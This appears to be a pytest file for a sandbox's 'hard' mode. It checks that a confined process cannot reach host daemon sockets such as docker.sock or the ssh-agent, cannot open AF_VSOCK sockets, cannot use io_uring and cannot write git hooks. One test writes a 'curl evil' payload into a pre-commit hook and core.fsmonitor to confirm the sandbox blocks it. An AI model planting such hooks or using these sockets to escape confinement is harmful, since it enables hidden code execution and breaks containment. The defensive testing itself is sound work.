"""Side doors beside the network: host unix sockets, other socket families, io_uring, git hooks.

A unix socket file crosses network namespaces, so a host daemon's socket would be a door
past the sink. The well-known ones are masked (not there inside); a connect to any other
host socket is recorded (`hard-unix`) and refused; only `--allow-unix PATH` (shown on the
seal line) and `--forward` go through. The host's side plays out in the test's outer
namespace: fake daemons that log every connection they get.
"""

from __future__ import annotations

import errno
import subprocess
import sys
from pathlib import Path

from hard_helpers import hard_env, hard_run, python_child, without_the_gate
from named_checks import broken

# A fake daemon per socket path: logs each connection (in LOGS, by path), says hello.
FAKE_DAEMONS = """
import os, select, signal, socket, sys
signal.alarm(60)
listeners = {}
logs = sys.argv[2]
for path in sys.argv[3:]:
    os.makedirs(os.path.dirname(path), exist_ok=True)
    server = socket.socket(socket.AF_UNIX)
    server.bind(path)
    server.listen()
    listeners[server] = path
open(sys.argv[1], "w").close()
while True:
    for server in select.select(list(listeners), [], [])[0]:
        connection, _ = server.accept()
        with open(os.path.join(logs, listeners[server].replace("/", "_")), "a") as log:
            log.write("connected\\n")
        connection.sendall(b"hello")
        connection.close()
"""
CONNECT = """
import socket, sys
for path in sys.argv[1:]:
    try:
        with socket.socket(socket.AF_UNIX) as client:
            client.connect(path)
            print(path, client.recv(5).decode() or "closed")
    except OSError as error:
        print(path, type(error).__name__)
"""


def daemons(tmp_path: Path, *paths: str, before: str = "") -> str:
    script = tmp_path / "fake_daemons.py"
    script.write_text(FAKE_DAEMONS)
    ready = tmp_path / "daemons-ready"
    logs = tmp_path / "daemon-logs"
    logs.mkdir()
    return (
        before + f"{sys.executable} {script} {ready} {logs} {' '.join(paths)} & S=$!; "
        f"while [ ! -e {ready} ]; do sleep 0.02; done; "
    )


def connections(tmp_path: Path, path: str) -> int:
    log = tmp_path / "daemon-logs" / path.replace("/", "_")
    return len(log.read_text().split()) if log.exists() else 0


def test_the_hosts_well_known_daemon_sockets_are_masked(tmp_path: Path) -> None:
    agent = str(tmp_path / "ssh-XYZ" / "agent.42")
    sockets = [
        "/run/docker.sock",
        "/run/containerd/containerd.sock",
        "/run/podman/podman.sock",
        "/run/dbus/system_bus_socket",
        "/run/user/0/bus",
        agent,
    ]
    env = hard_env(tmp_path, XDG_RUNTIME_DIR="/run/user/0", SSH_AUTH_SOCK=agent)
    setup = daemons(tmp_path, *sockets, before="mount -t tmpfs run /run; ")
    # The control: the same connects outside the seal, in the same namespace, reach them.
    control = f"{sys.executable} -c '{CONNECT}' {' '.join(sockets)} > {tmp_path}/control; "

    run = hard_run(
        tmp_path,
        *python_child("-I", code=CONNECT),
        *sockets,
        env=env,
        host_setup=setup + control,
        mounts=True,
    )

    outside = (tmp_path / "control").read_text()
    assert outside.count(" hello") == len(sockets), f"the control reached no daemon: {outside}"
    for path in sockets:  # a masked directory has nothing in it; a masked file is no socket
        masked = (f"{path} FileNotFoundError", f"{path} ConnectionRefusedError")
        assert any(line in run.stdout for line in masked), broken(
            "host-daemon-sockets-are-masked",
            f"the host's daemon socket {path} was visible inside:\n{run.output}",
        )
        assert connections(tmp_path, path) == 1, f"{path} was reached from inside"  # the control's
    assert run.returncode == 0 and run.reaches() == (), run.output


def test_a_connect_to_any_other_host_unix_socket_is_recorded_and_refused(tmp_path: Path) -> None:
    host_socket = str(tmp_path / "daemon.sock")
    run = hard_run(
        tmp_path,
        *python_child("-I", code=CONNECT),
        host_socket,
        host_setup=daemons(tmp_path, host_socket),
    )

    assert f"{host_socket} PermissionError" in run.stdout, broken(
        "a-host-unix-socket-is-refused",
        f"a host unix socket was reached from inside:\n{run.output}",
    )
    assert connections(tmp_path, host_socket) == 0, "the host's daemon was reached"
    (record,) = run.reaches()
    assert (record["via"], record["target"]) == ("hard-unix", host_socket), record
    assert record["argv"][:2] == [sys.executable, "-I"], record
    assert run.returncode == 98, run.output


DATAGRAM = """
import socket, sys
client = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
try:
    client.sendto(b"log line", sys.argv[1])
    print("sent")
except OSError as error:
    print(type(error).__name__)
"""


DATAGRAM_DAEMON = """
import signal, socket, sys
signal.alarm(60)
server = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
server.bind(sys.argv[1])
open(sys.argv[1] + ".ready", "w").close()
datagram = server.recv(64)
with open(sys.argv[2], "a") as received:
    received.write(repr(datagram))
"""


def test_a_datagram_to_a_host_unix_socket_is_recorded_and_refused(tmp_path: Path) -> None:
    host_socket = tmp_path / "journal.sock"
    daemon = tmp_path / "datagram_daemon.py"
    daemon.write_text(DATAGRAM_DAEMON)
    received = tmp_path / "received"
    setup = (
        f"{sys.executable} {daemon} {host_socket} {received} & S=$!; "
        f"while [ ! -e {host_socket}.ready ]; do sleep 0.02; done; "
    )
    run = hard_run(tmp_path, *python_child("-I", code=DATAGRAM), str(host_socket), host_setup=setup)

    assert run.stdout.strip() == "PermissionError", broken(
        "a-host-datagram-is-refused", f"the datagram was sent:\n{run.output}"
    )
    assert not received.exists(), f"the host's socket received {received.read_text()}"
    assert run.targets("hard-unix") == [str(host_socket)], run.output
    assert run.returncode == 98, run.output


INSIDE_SERVER = """
import os, socket, sys, threading
path = os.path.join(sys.argv[1], "inside.sock")
server = socket.socket(socket.AF_UNIX)
server.bind(path)
server.listen()
threading.Thread(target=lambda: server.accept()[0].sendall(b"inside"), daemon=True).start()
with socket.socket(socket.AF_UNIX) as client:
    client.connect(path)
    print(client.recv(6).decode())
"""


def test_a_unix_socket_made_inside_is_reached_as_usual(tmp_path: Path) -> None:
    run = hard_run(tmp_path, *python_child("-I", code=INSIDE_SERVER), str(tmp_path))

    assert run.stdout.strip() == "inside", run.output
    assert run.returncode == 0 and run.reaches() == (), run.output


def test_allow_unix_lets_that_socket_through_and_shows_it_on_the_seal_line(
    tmp_path: Path,
) -> None:
    runtime = tmp_path / "xdg"
    allowed = str(runtime / "podman" / "podman.sock")  # inside a masked directory
    other = str(runtime / "bus")
    env = hard_env(tmp_path, XDG_RUNTIME_DIR=str(runtime))
    run = hard_run(
        tmp_path,
        *python_child("-I", code=CONNECT),
        allowed,
        other,
        env=env,
        options=("--hard", "--allow-unix", allowed),
        host_setup=daemons(tmp_path, allowed, other),
    )

    assert f"hard=on allow-unix={allowed}" in run.stderr, run.output
    assert f"{allowed} hello" in run.stdout, broken(
        "an-allowed-socket-goes-through", f"the allowed socket was refused:\n{run.output}"
    )
    assert f"{other} FileNotFoundError" in run.stdout, f"its masked directory showed:\n{run.output}"
    assert connections(tmp_path, allowed) == 1 and connections(tmp_path, other) == 0
    assert run.returncode == 0, run.output


def test_allow_unix_without_hard_or_naming_no_socket_is_a_usage_error(tmp_path: Path) -> None:
    without_hard = hard_run(tmp_path, "true", options=("--allow-unix", "/run/docker.sock"))
    no_socket = hard_run(tmp_path, "true", options=("--hard", "--allow-unix", str(tmp_path)))

    assert without_hard.returncode == 2, without_hard.output
    assert "--allow-unix needs --hard" in without_hard.stderr, without_hard.output
    assert no_socket.returncode == 2 and "not a unix socket" in no_socket.stderr, no_socket.output


VSOCK = """
import socket
try:
    socket.socket(40, socket.SOCK_STREAM)  # AF_VSOCK: to the hypervisor's host
    print("created")
except OSError as error:
    print("refused", error.errno)
"""


def test_a_socket_family_the_network_namespace_does_not_isolate_is_refused_and_recorded(
    tmp_path: Path,
) -> None:
    run = hard_run(tmp_path, *python_child("-I", code=VSOCK))

    assert run.targets("hard-socket") == ["AF_VSOCK"], broken(
        "an-unisolated-family-is-recorded", f"the AF_VSOCK attempt was not recorded:\n{run.output}"
    )
    assert run.stdout.strip() == f"refused {errno.EAFNOSUPPORT}", run.output
    (record,) = run.reaches()
    assert (record["via"], record["target"]) == ("hard-socket", "AF_VSOCK"), record
    assert run.returncode == 98, run.output


IO_URING = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
params = ctypes.create_string_buffer(120)
print(libc.syscall(425, 1, params), ctypes.get_errno())  # io_uring_setup
"""


def test_io_uring_is_refused_inside(tmp_path: Path) -> None:
    # Its operations connect and send without a system call the filter sees.
    outside = subprocess.run([sys.executable, "-c", IO_URING], capture_output=True, text=True)
    run = hard_run(tmp_path, *python_child("-I", code=IO_URING))

    assert outside.stdout.split()[1] != str(errno.EPERM), f"the control: {outside.stdout}"
    assert run.stdout.split() == ["-1", str(errno.EPERM)], broken(
        "io-uring-is-refused", f"io_uring was available:\n{run.output}"
    )
    assert run.returncode == 0, run.output


def test_a_host_that_cannot_enforce_the_gate_declares_its_limit_on_the_seal_line(
    tmp_path: Path,
) -> None:
    host_socket = str(tmp_path / "daemon.sock")
    older_kernel = without_the_gate(tmp_path)
    run = hard_run(
        tmp_path,
        *python_child("-I", code=CONNECT),
        host_socket,
        host_setup=daemons(tmp_path, host_socket),
        launcher=older_kernel,
    )

    assert "hard=on limits=unix-sockets,socket-families" in run.stderr, broken(
        "the-gate-limit-is-declared", f"the limit was not declared on the seal line:\n{run.output}"
    )
    assert "declared limit: the kernel offers no seccomp user notification" in run.stderr
    assert f"{host_socket} hello" in run.stdout, run.output  # what the limit says: not refused
    assert run.returncode == 0, run.output


def test_the_repositorys_git_hooks_and_config_are_read_only_inside(tmp_path: Path) -> None:
    repository = tmp_path / "repo"
    subprocess.run(["git", "init", "-q", str(repository)], check=True)
    hook = repository / ".git" / "hooks" / "pre-commit"
    script = (
        f"(echo 'curl evil' > {hook}) 2>/dev/null && echo WROTE-HOOK; "
        "git config core.fsmonitor 'curl evil' 2>/dev/null && echo WROTE-CONFIG; exit 0"
    )
    control = hard_run(tmp_path, "sh", "-c", script, options=(), cwd=repository)
    hook.unlink()
    subprocess.run(
        ["git", "-C", str(repository), "config", "--unset", "core.fsmonitor"], check=True
    )

    run = hard_run(tmp_path, "sh", "-c", script, cwd=repository)

    assert "WROTE-HOOK" in control.stdout and "WROTE-CONFIG" in control.stdout, control.output
    assert "WROTE-HOOK" not in run.stdout, broken(
        "git-hooks-are-read-only", f"a git hook was written inside:\n{run.output}"
    )
    assert "WROTE-CONFIG" not in run.stdout, f"git config was written inside:\n{run.output}"
    assert not hook.exists(), run.output
    # The hooks are an ambient root too: the attempt is recorded (98). The config's write is
    # refused before it is made: `.git` is read-only whole inside, and git's lock file beside
    # the config (not a root: `git status` takes one there too) cannot be made.
    assert run.targets("ambient-write") == [str(hook)], run.output
    assert run.returncode == 98, run.output


def test_the_gate_filter_assembles_for_every_architecture_it_knows() -> None:
    # The kernel checks the native one on every run; the others are assembled here (a jump
    # out of classic BPF's reach fails).
    from cloudguard.guard.hard import seccomp_filter

    for name, arch in seccomp_filter.ARCHES.items():
        program = seccomp_filter.program(arch)
        assert len(program) % 8 == 0 and 0 < len(program) // 8 <= 4096, name
